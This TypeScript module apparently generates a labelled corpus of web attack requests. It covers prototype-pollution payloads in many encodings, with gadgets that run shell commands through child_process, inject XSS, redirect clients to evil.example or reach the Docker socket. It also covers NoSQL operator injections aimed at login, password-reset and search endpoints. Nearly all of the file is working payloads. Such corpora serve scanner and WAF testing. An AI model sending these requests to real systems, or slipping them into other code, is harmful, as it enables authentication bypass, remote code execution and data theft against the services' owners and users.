import type { WholeWriter } from '../whole.ts';

const places = [
  '/api/settings',
  '/v2/profile',
  '/cart/merge',
  '/config/update',
  '/graphql',
  '/rest/user/options',
] as const;
const at = (number: number): string => places[number % places.length] ?? '/api/settings';

/** What gadgets are set from outside: names that libraries read from any object. */
const gadgets: readonly (readonly [string, unknown])[] = [
  ['isAdmin', true],
  ['role', 'admin'],
  ['outputFunctionName', 'x;process.mainModule.require("child_process").execSync("id");s'],
  ['client', true],
  ['escapeFunction', '1;return global.process.mainModule.constructor._load("child_process").execSync("id");'],
  ['shell', '/proc/self/exe'],
  ['NODE_OPTIONS', '--require /proc/self/environ'],
  ['env', { EVIL: 'console.log(1)//', NODE_OPTIONS: '--require /proc/self/environ' }],
  ['argv0', 'console.log(1)//'],
  ['sourceURL', '\u2028process.exit()'],
  ['block', { type: 'Text', line: 'process.mainModule.require("child_process").execSync("id")' }],
  ['status', 510],
  ['json spaces', 10],
  ['exposedHeaders', ['foo']],
  ['parameterLimit', 1],
  ['allowDots', true],
  ['toString', 'x'],
  ['hasOwnProperty', 1],
  ['srcdoc', '<script>alert(1)</script>'],
  ['innerHTML', '<img src=x onerror=alert(1)>'],
  ['transport_url', 'data:,alert(1);//'],
  ['sanitize', false],
  ['whiteList', { img: ['onerror', 'src'] }],
  ['html', '<img/src/onerror=alert(1)>'],
  ['length', 1e9],
  ['baseURL', 'https://evil.example'],
  ['proxy', { host: '198.51.100.6', port: 8080 }],
  ['socketPath', '/var/run/docker.sock'],
  ['verified', true],
  ['then', null],
];

/** Prototypes that are reached by names. */
export function writePrototypes(write: WholeWriter): void {
  for (const [turn, [name, value]] of gadgets.entries()) {
    const text = JSON.stringify(value);
    const key = JSON.stringify(name);
    const flat = encodeURIComponent(typeof value === 'string' ? value : text);
    const field = encodeURIComponent(name);
    write.as({ class: 'prototype', technique: 'own key in JSON' });
    write.json(at(turn), `{"theme":"dark","__proto__":{${key}:${text}}}`);
    write.json(at(turn + 1), `{"items":[{"qty":1,"constructor":{"prototype":{${key}:${text}}}}]}`);
    write.as({ class: 'prototype', technique: 'letters of JSON escaped' });
    write.json(at(turn + 2), `{"a":{"\\u005f\\u005fproto\\u005f\\u005f":{${key}:${text}}}}`);
    write.as({ class: 'prototype', technique: 'brackets and dots in query and form' });
    write.get(`/?__proto__[${field}]=${flat}`);
    write.get(`/shop?x=1&constructor%5Bprototype%5D%5B${field}%5D=${flat}`);
    write.get(`/app?__proto__.${field}=${flat}`);
    write.send(at(turn + 3), 'application/x-www-form-urlencoded', `name=a&user[__proto__][${field}]=${flat}`);
    write.as({ class: 'prototype', technique: 'paths in JSON that a setter walks' });
    if (turn % 2 === 0) write.json('/api/doc', { path: `constructor.prototype.${name}`, value });
    else
      write.json('/api/doc', [{ op: 'add', path: `/__proto__/${name}`, value }], {
        'content-type': 'application/json-patch+json',
      });
    if (turn % 3 === 0) write.json('/api/doc/set', { key: ['__proto__', name], value });
    if (turn % 3 === 1)
      write.send(
        '/form',
        'multipart/form-data; boundary=b0',
        `--b0\r\nContent-Disposition: form-data; name="__proto__.${name}"\r\n\r\n${typeof value === 'string' ? value : text}\r\n--b0--\r\n`,
      );
    if (turn % 3 === 2) write.send('/yaml', 'application/yaml', `a: 1\n"__proto__":\n  ${key}: ${text}\n`);
    if (turn % 5 === 0) write.get('/', { cookie: `prefs=${encodeURIComponent(`j:{"__proto__":{${key}:${text}}}`)}` });
    if (turn % 5 === 1) write.get(`/a?x[__proto__][]=1&x[__proto__][${field}]=${flat}`);
    if (turn % 5 === 2) write.get(`/a?__pro__proto__to__[${field}]=${flat}`);
    if (turn % 5 === 3) write.get(`/a?a=1&a[constructor][prototype][${field}]=${flat}`);
    if (turn % 5 === 4) write.json('/webhook/lead', `{"body":{"__proto__":{"__proto__":{${key}:${text}}}}}`);
  }
}

const operators = [
  ['$ne', ''],
  ['$ne', 'x'],
  ['$gt', ''],
  ['$gte', '0'],
  ['$regex', '.*'],
  ['$regex', '^a'],
  ['$regex', '^adm'],
  ['$exists', 'true'],
  ['$nin][0', 'guest'],
  ['$in][', 'admin'],
  ['$where', 'sleep(4000)'],
  ['$not][$eq', 'x'],
  ['$type', '2'],
  ['$lt', '~'],
  ['$mod][0', '1'],
] as const;

/** Operators of document stores as the names of fields. */
export function writeOperators(write: WholeWriter): void {
  write.as({ class: 'nosqli', technique: 'operators in brackets' });
  for (const [turn, [operator, value]] of operators.entries()) {
    const open = `[${operator}]`;
    const shut = encodeURIComponent(value);
    write.send('/login', 'application/x-www-form-urlencoded', `username=admin&password${open}=${shut}`);
    write.get(`/api/users?email${encodeURIComponent(open)}=${shut}`);
    write.send('/reset', 'application/x-www-form-urlencoded', `token${open}=${shut}&new=Passw0rd${turn}`);
    write.get(`/products?filter${open}=${shut}&page=1`);
  }
  write.as({ class: 'nosqli', technique: 'operators as JSON objects' });
  const objects = [
    '{"$ne":null}',
    '{"$gt":""}',
    '{"$regex":"^a.*"}',
    '{"$exists":true}',
    '{"$nin":["a"]}',
    '{"$not":{"$eq":"q"}}',
    '{"$where":"sleep(3000)||1"}',
    '{"$in":["admin","root"]}',
  ];
  for (const [turn, object] of objects.entries()) {
    write.json('/api/login', `{"user":${object},"pass":${objects[(turn + 3) % objects.length]}}`);
    write.json('/v1/session', `{"email":"admin@example.com","password":${object},"remember":true}`);
    write.json('/api/orders/search', `{"query":{"owner":${object}},"limit":50}`);
    write.json('/graphql', {
      query: 'query Q($f: JSON) { users(where: $f) { email } }',
      variables: { f: JSON.parse(`{"email":${object}}`) as unknown },
    });
    write.get(`/api/items?where=${encodeURIComponent(`{"owner":${object}}`)}`);
    write.get(
      `/rest/list?filter=${encodeURIComponent(JSON.stringify({ where: { or: [JSON.parse(object)] } }))}&l=${turn}`,
    );
  }
}
